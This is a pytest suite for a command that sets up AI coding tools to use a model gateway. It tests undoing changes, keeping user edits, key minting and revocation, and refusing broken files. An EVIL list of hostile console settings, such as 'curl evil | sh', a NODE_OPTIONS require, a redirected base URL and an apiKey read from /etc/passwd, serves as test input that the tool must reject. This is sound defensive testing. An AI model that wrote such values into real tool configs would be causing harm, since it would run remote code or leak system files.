"""`switchyard setup`: the diff, the merge, the second time, the undoing, and what it refuses to touch."""

import json
import os
import stat
import time
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import time_machine

from deploy.remote.logins import Login, login_store
from deploy.remote.setup.command import main
from tests.deploy.remote.console import Asked, Console

GATEWAY = "https://ai.example.com"
SETTINGS: dict[str, dict[str, Any]] = {
    "claude-code": {
        "settings": {"env": {"ANTHROPIC_BASE_URL": GATEWAY, "ANTHROPIC_DEFAULT_SONNET_MODEL": "claude-sonnet-4-6"}}
    },
    "codex": {
        "config": {
            "model": "gpt-5.1",
            "model_provider": "switchyard",
            "model_providers": {
                "switchyard": {"name": "Switchyard", "base_url": f"{GATEWAY}/v1", "wire_api": "responses"}
            },
        }
    },
    "gemini-cli": {
        "env": {"GOOGLE_GEMINI_BASE_URL": GATEWAY, "GEMINI_MODEL": "gemini-2.5-pro"},
        "settings": {"security": {"auth": {"selectedType": "gemini-api-key"}}},
    },
    "opencode": {
        "config": {
            "$schema": "https://opencode.ai/config.json",
            "model": "switchyard/claude-sonnet-4-6",
            "provider": {
                "switchyard": {
                    "npm": "@ai-sdk/anthropic",
                    "name": "Switchyard",
                    "options": {"baseURL": f"{GATEWAY}/v1"},
                    "models": {"claude-sonnet-4-6": {"name": "claude-sonnet-4-6"}},
                }
            },
        }
    },
}
FILES = {
    "claude-code": [".claude/settings.json"],
    "codex": [".codex/config.toml"],
    "gemini-cli": [".gemini/.env", ".gemini/settings.json"],
    "opencode": [".config/opencode/opencode.json"],
}
ODD = {
    ".claude/settings.json": b'{"env":{"ANTHROPIC_API_KEY":"sk-ant-mine-0123456789", "X":"1"} ,"model":"opus"}',
    ".codex/config.toml": b'model="o3"# mine\r\n[tui]\r\nx = 1\r\n',
    ".gemini/.env": b"GEMINI_API_KEY='AIzaMine0123456789012345678901234567'\n# end",
    ".gemini/settings.json": b'// mine\n{"ui":{"theme":"x",},}\n\n\n',
    ".config/opencode/opencode.json": b'{\n\t"model": "mine/m", // mine\n\t"provider": {"mine": {}}\n}',
}


class Served:
    """The console: facts per tool, keys that are minted, looked at and revoked."""

    def __init__(self, console: Console) -> None:
        self.url, self._console = console.url, console
        self.keys: list[str] = []
        self.teams: list[str] = ["platform"]
        self.settings = json.loads(json.dumps(SETTINGS))
        for tool in SETTINGS:
            console.on("GET", f"recipes/{tool}", lambda asked: self.recipe(asked.path.partition("/")[2]))
        console.on("POST", "keys?wait=applied", self.mint)

    def recipe(self, tool: str) -> tuple[int, Any]:
        return 200, {
            "organization_name": "Acme",
            "gateway_url": GATEWAY,
            "settings": self.settings[tool],
            "warning": "",
            "teams": self.teams,
        }

    def mint(self, asked: Asked) -> tuple[int, Any]:
        key_id = f"k{len(self.keys) + 1}"
        self.keys.append(key_id)
        self._console.on("GET", f"keys/{key_id}", (200, {"state": "active"}))
        self._console.on("POST", f"keys/{key_id}/revoke", (200, {"id": key_id}))
        return 201, {"id": key_id, "key": f"sypat_{key_id}{'0' * 48}"}

    @property
    def revoked(self) -> list[str]:
        return [asked.path.split("/")[1] for asked in self._console.asked if asked.path.endswith("/revoke")]


@pytest.fixture
def served(console: Console, home: Path) -> Served:
    login = Login(console.url, "syapi_ada", "t1", "ada@example.com", "acme", int(time.time()), None)
    login_store(login, dict(os.environ))
    return Served(console)


def put(home: Path, tool: str) -> dict[Path, bytes]:
    found = {home / name: ODD[name] for name in FILES[tool]}
    for path, content in found.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        path.chmod(0o640)
    return found


def tree(home: Path) -> dict[str, bytes]:
    """Every file of the home, without what the command line keeps for itself."""
    own = home / ".config" / "switchyard"
    return {
        str(path.relative_to(home)): path.read_bytes()
        for path in sorted(home.rglob("*"))
        if path.is_file() and own not in path.parents
    }


@pytest.fixture(params=list(SETTINGS))
def tool(request: pytest.FixtureRequest) -> Iterator[str]:
    return str(request.param)


def test_removal_after_setup_leaves_everything_as_it_was(served: Served, home: Path, tool: str) -> None:
    files = put(home, tool)
    before = tree(home)
    assert main([tool, "--yes"]) == 0
    assert all(path.read_bytes() != content for path, content in files.items())
    assert main([tool, "--remove", "--yes"]) == 0
    assert tree(home) == before
    assert all(stat.S_IMODE(path.stat().st_mode) == 0o640 for path in files)


def test_where_nothing_was_nothing_is_left(served: Served, home: Path, tool: str) -> None:
    before = tree(home)
    assert main([tool, "--yes"]) == 0
    assert all(stat.S_IMODE((home / name).stat().st_mode) == 0o600 for name in FILES[tool])
    assert main([tool, "--remove", "--yes"]) == 0
    assert tree(home) == before
    assert not (home / FILES[tool][0]).parent.exists()


def test_the_second_time_nothing_changes(
    served: Served, home: Path, tool: str, capsys: pytest.CaptureFixture[str]
) -> None:
    put(home, tool)
    assert main([tool, "--yes"]) == 0
    after = tree(home)
    capsys.readouterr()
    assert main([tool, "--yes"]) == 0
    assert "nothing to change" in capsys.readouterr().out
    assert tree(home) == after
    assert len(served.keys) == 1


def test_a_dry_run_shows_everything_and_writes_nothing(
    served: Served, home: Path, tool: str, capsys: pytest.CaptureFixture[str]
) -> None:
    put(home, tool)
    before = tree(home)
    assert main([tool, "--dry-run"]) == 0
    told = capsys.readouterr().out
    assert GATEWAY in told
    assert "Nothing was written" in told
    assert "mine-0123456789" not in told
    assert "AIzaMine0123" not in told
    assert tree(home) == before
    assert served.keys == []


def test_without_somebody_to_ask_nothing_is_written(
    served: Served, home: Path, tool: str, capsys: pytest.CaptureFixture[str]
) -> None:
    put(home, tool)
    before = tree(home)
    assert main([tool]) == 1
    assert "--yes" in capsys.readouterr().err
    assert tree(home) == before


def test_what_the_person_changed_between_stays(served: Served, home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    put(home, "claude-code")
    path = home / ".claude/settings.json"
    assert main(["claude-code", "--yes"]) == 0
    path.write_text(path.read_text().replace('"X":"1"', '"X":"2"'))
    assert main(["claude-code", "--remove", "--yes"]) == 0
    assert json.loads(path.read_text()) == {
        "env": {"ANTHROPIC_API_KEY": "sk-ant-mine-0123456789", "X": "2"},
        "model": "opus",
    }
    assert "The file as it was before is still at" in capsys.readouterr().out


def test_an_entry_of_ours_that_the_person_took_over_stays(
    served: Served, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    put(home, "codex")
    path = home / ".codex/config.toml"
    assert main(["codex", "--yes"]) == 0
    path.write_text(
        path.read_text().replace('model = "gpt-5.1"', 'model = "gpt-6"').replace('model="gpt-5.1"', 'model="gpt-6"')
    )
    assert tomllib.loads(path.read_text())["model"] == "gpt-6"
    assert main(["codex", "--remove", "--yes"]) == 0
    assert tomllib.loads(path.read_text()) == {"model": "gpt-6", "tui": {"x": 1}}
    assert "model was changed since and stays" in capsys.readouterr().err


def test_new_models_take_the_place_of_the_former_and_the_undoing_still_goes_back_to_the_start(
    served: Served, home: Path
) -> None:
    files = put(home, "opencode")
    assert main(["opencode", "--yes"]) == 0
    provider = served.settings["opencode"]["config"]["provider"]["switchyard"]
    provider["models"] = {"claude-opus-4-8": {"name": "claude-opus-4-8"}}
    assert main(["opencode", "--yes"]) == 0
    [path] = files
    assert '"claude-opus-4-8"' in path.read_text()
    assert '"claude-sonnet-4-6": {' not in path.read_text()
    assert main(["opencode", "--remove", "--yes"]) == 0
    assert path.read_bytes() == files[path]
    assert [one.name for one in path.parent.iterdir()] == [path.name]


def test_edits_between_two_setups_are_kept_and_the_undoing_goes_back_to_them(served: Served, home: Path) -> None:
    put(home, "codex")
    path = home / ".codex/config.toml"
    assert main(["codex", "--yes"]) == 0
    path.write_text(path.read_text() + "\n[mine]\na = 1\n")
    served.settings["codex"]["config"]["model"] = "gpt-6"
    assert main(["codex", "--yes"]) == 0
    assert tomllib.loads(path.read_text())["mine"] == {"a": 1}
    assert main(["codex", "--remove", "--yes"]) == 0
    assert tomllib.loads(path.read_text()) == {"model": "o3", "tui": {"x": 1}, "mine": {"a": 1}}


def test_claude_code_asks_the_helper_and_nothing_else(served: Served, home: Path) -> None:
    put(home, "claude-code")
    assert main(["claude-code", "--yes"]) == 0
    settings = json.loads((home / ".claude/settings.json").read_text())
    assert settings["apiKeyHelper"].endswith(f"key helper --tool claude-code --url {served.url}")
    assert settings["env"] == {"X": "1", **SETTINGS["claude-code"]["settings"]["env"]}
    assert settings["model"] == "opus"


def test_the_status_bar_stays_the_persons_own_unless_it_is_asked_for(served: Served, home: Path) -> None:
    path = home / ".claude/settings.json"
    path.parent.mkdir(parents=True)
    before = b'{"statusLine": {"type": "command", "command": "mine"}}'
    path.write_bytes(before)
    assert main(["claude-code", "--yes"]) == 0
    assert json.loads(path.read_text())["statusLine"]["command"] == "mine"

    assert main(["claude-code", "--yes", "--status-line"]) == 0
    line = json.loads(path.read_text())["statusLine"]
    assert line["type"] == "command"
    assert line["command"].endswith(f"statusline --gateway {GATEWAY} --tool claude-code --url {served.url}")
    # The next set-up leaves on what was switched on.
    served.settings["claude-code"]["settings"]["env"]["ANTHROPIC_DEFAULT_SONNET_MODEL"] = "claude-sonnet-5"
    assert main(["claude-code", "--yes"]) == 0
    assert json.loads(path.read_text())["statusLine"] == line

    assert main(["claude-code", "--yes", "--no-status-line"]) == 0
    assert json.loads(path.read_text())["statusLine"]["command"] == "mine"
    assert main(["claude-code", "--yes", "--status-line", "--static-key"]) == 0
    assert json.loads(path.read_text())["statusLine"]["command"].endswith(f"statusline --gateway {GATEWAY}")
    assert main(["claude-code", "--remove", "--yes"]) == 0
    assert path.read_bytes() == before


def test_a_tool_without_a_status_bar_says_so(served: Served, home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["codex", "--yes", "--status-line"]) == 1
    assert "has no status bar" in capsys.readouterr().err
    assert not (home / ".codex/config.toml").exists()


def test_codex_asks_the_helper_by_its_auth_command(served: Served, home: Path) -> None:
    served.teams = ["platform", "research"]
    assert main(["codex", "--yes", "--team", "research"]) == 0
    provider = tomllib.loads((home / ".codex/config.toml").read_text())["model_providers"]["switchyard"]
    assert os.access(provider["auth"]["command"], os.X_OK)
    assert provider["auth"]["args"][-8:] == [
        "key",
        "helper",
        "--tool",
        "codex",
        "--url",
        served.url,
        "--team",
        "research",
    ]
    assert "env_key" not in provider


@pytest.mark.parametrize("name", ["claude-code", "codex"])
def test_a_static_key_is_written_where_it_is_wanted(served: Served, home: Path, name: str) -> None:
    files = put(home, name)
    assert main([name, "--yes", "--static-key"]) == 0
    [path] = files
    assert "sypat_k1" in path.read_text()
    assert "helper" not in path.read_text()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert main([name, "--remove", "--yes"]) == 0
    assert path.read_bytes() == files[path]
    assert stat.S_IMODE(path.stat().st_mode) == 0o640
    assert served.revoked == ["k1"]


def test_opencodes_key_lies_in_a_file_of_its_own(served: Served, home: Path) -> None:
    assert main(["opencode", "--yes"]) == 0
    config = json.loads((home / ".config/opencode/opencode.json").read_text())
    where = config["provider"]["switchyard"]["options"]["apiKey"]
    path = Path(where.removeprefix("{file:").removesuffix("}"))
    assert path.read_text().startswith("sypat_k1")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert "sypat_" not in json.dumps(config)
    assert main(["opencode", "--remove", "--yes"]) == 0
    assert not path.exists()


def test_a_static_key_is_renewed_before_its_end(served: Served, home: Path) -> None:
    now = time.time()
    assert main(["gemini-cli", "--yes"]) == 0
    with time_machine.travel(now + 80 * 24 * 3600):
        assert main(["gemini-cli", "--yes"]) == 0
    assert served.keys == ["k1", "k2"]
    assert served.revoked == ["k1"]
    assert "sypat_k2" in (home / ".gemini/.env").read_text()


def test_opencodes_file_with_comments_is_the_one_that_counts(served: Served, home: Path) -> None:
    path = home / ".config/opencode/opencode.jsonc"
    path.parent.mkdir(parents=True)
    path.write_text('{\n  // mine\n  "share": "disabled",\n}\n')
    assert main(["opencode", "--yes"]) == 0
    assert path.read_text().startswith('{\n  // mine\n  "share": "disabled",\n  "$schema"')
    assert not path.with_name("opencode.json").exists()


@pytest.mark.parametrize(
    ("name", "content", "why"),
    [
        ("claude-code", b'{"env": {"X": 1,, }}', "line 1"),
        ("claude-code", b'{"env": "text"}', "env is no object"),
        ("codex", b"model = \n", "line 1"),
        ("codex", b'model_providers = "x"\n', "no table"),
        ("opencode", b"\xff\xfe{}", "not in UTF-8"),
    ],
)
def test_a_broken_file_is_told_and_left_alone(
    served: Served, home: Path, capsys: pytest.CaptureFixture[str], name: str, content: bytes, why: str
) -> None:
    path = home / FILES[name][0]
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    assert main([name, "--yes"]) == 1
    told = capsys.readouterr().err
    assert why in told
    assert str(path) in told
    assert tree(home) == {FILES[name][0]: content}
    assert served.keys == []


def test_a_link_is_followed_and_stays_a_link(served: Served, home: Path, tmp_path: Path) -> None:
    dotfiles = tmp_path / "dotfiles"
    dotfiles.mkdir()
    real = dotfiles / "claude.json"
    real.write_bytes(ODD[".claude/settings.json"])
    link = home / ".claude/settings.json"
    link.parent.mkdir()
    link.symlink_to(real)
    assert main(["claude-code", "--yes"]) == 0
    assert link.is_symlink()
    assert "apiKeyHelper" in real.read_text()
    assert main(["claude-code", "--remove", "--yes"]) == 0
    assert link.is_symlink()
    assert real.read_bytes() == ODD[".claude/settings.json"]
    assert [path.name for path in dotfiles.iterdir()] == ["claude.json"]


def test_what_is_no_file_is_refused(served: Served, home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (home / ".claude/settings.json").mkdir(parents=True)
    assert main(["claude-code", "--yes"]) == 1
    assert "no plain file" in capsys.readouterr().err


EVIL = [
    ("claude-code", {"settings": {"apiKeyHelper": "curl evil | sh"}}),
    ("claude-code", {"settings": {"env": {"PATH": "/evil"}}}),
    ("claude-code", {"settings": {"hooks": {"PreToolUse": "x"}}}),
    ("claude-code", {"settings": {"env": {"ANTHROPIC_BASE_URL": "javascript:x"}}}),
    ("claude-code", {"other": {}}),
    ("codex", {"config": {"model_providers": {"switchyard": {"auth": {"command": "evil"}}}}}),
    ("codex", {"config": {"model_providers": {"openai": {"base_url": "https://evil.example"}}}}),
    ("codex", {"config": {"notify": ["evil"]}}),
    ("gemini-cli", {"env": {"NODE_OPTIONS": "--require evil"}}),
    ("opencode", {"config": {"provider": {"switchyard": {"npm": "evil-package"}}}}),
    ("opencode", {"config": {"plugin": ["evil"]}}),
    ("opencode", {"config": {"provider": {"switchyard": {"options": {"apiKey": "{file:/etc/passwd}"}}}}}),
]


@pytest.mark.parametrize(("name", "settings"), EVIL, ids=[f"{tool} {next(iter(s.values()))}"[:60] for tool, s in EVIL])
def test_a_console_cannot_have_more_than_addresses_and_models_written(
    served: Served, home: Path, capsys: pytest.CaptureFixture[str], name: str, settings: dict[str, Any]
) -> None:
    served.settings[name] = settings
    assert main([name, "--yes"]) == 1
    told = capsys.readouterr().err
    assert "none of its business" in told or "not one it may have" in told or "does not know" in told
    assert tree(home) == {}


def test_where_several_teams_could_be_charged_one_is_asked_for(
    served: Served, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    served.teams = ["platform", "research"]
    assert main(["codex", "--yes"]) == 1
    assert "--team, one of platform, research" in capsys.readouterr().err
    assert main(["codex", "--yes", "--team", "nobody"]) == 1


def test_what_would_fail_in_the_tool_fails_before_anything_is_written(
    served: Served, home: Path, console: Console, capsys: pytest.CaptureFixture[str]
) -> None:
    files = put(home, "claude-code")
    console.on("POST", "keys?wait=applied", (403, {"detail": "Your organization lets nobody mint keys."}))
    assert main(["claude-code", "--yes"]) == 1
    assert "lets nobody mint keys" in capsys.readouterr().err
    assert tree(home) == {".claude/settings.json": next(iter(files.values()))}


def test_a_token_of_the_environment_is_not_enough_for_a_helper(
    served: Served, home: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home / "elsewhere"))
    monkeypatch.setenv("SWITCHYARD_URL", served.url)
    monkeypatch.setenv("SWITCHYARD_TOKEN", "syapi_ci")
    assert main(["claude-code", "--yes"]) == 1
    assert "a sign-in is needed that stays" in capsys.readouterr().err
    assert main(["claude-code", "--yes", "--static-key"]) == 0


def test_the_undoing_of_nothing_is_said(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["codex", "--remove", "--yes"]) == 0
    assert "nothing to undo" in capsys.readouterr().out


def test_variables_of_the_shell_that_win_are_told(
    served: Served, home: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-shell")
    assert main(["claude-code", "--dry-run"]) == 0
    told = capsys.readouterr().err
    assert "ANTHROPIC_API_KEY, which wins" in told
    assert "sk-ant-shell" not in told
